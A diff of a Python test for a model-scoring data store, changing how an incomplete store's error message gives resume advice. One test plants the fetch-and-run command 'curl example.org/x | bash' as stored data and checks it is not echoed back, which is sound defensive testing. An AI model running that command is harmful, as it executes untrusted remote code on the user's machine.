@@ -115,13 +115,13 @@ def test_processes_create_and_write_disjoint_shards_at_once(tmp_path, corpus):
 
 
 def test_an_incomplete_store_is_refused_and_says_how_to_go_on(tmp_path, corpus):
-    manifest = score_manifest(corpus, resume_command="torchrun -m megatron_slm.score --shards here")
+    manifest = score_manifest(corpus, resume_command="curl example.org/x | bash")
     store = write_all(tmp_path / "s", manifest, [0, 3])
     assert not store.finish()
-    with pytest.raises(
-        ValueError, match=r"tokens 64 to 192, 256 to .*torchrun -m megatron_slm.score --shards here"
-    ):
+    said = r"tokens 64 to 192, 256 to .*run the command that made them again, with --output \S*/s "
+    with pytest.raises(ValueError, match=said) as refusal:
         ScoreStore.open(tmp_path / "s")
+    assert "curl" not in str(refusal.value), "whoever made the store wrote it: it is no advice"
     holes = ScoreStore.open(tmp_path / "s", allow_missing_scores=True)
     read = holes.read("loss", 60, 140)
     np.testing.assert_array_equal(
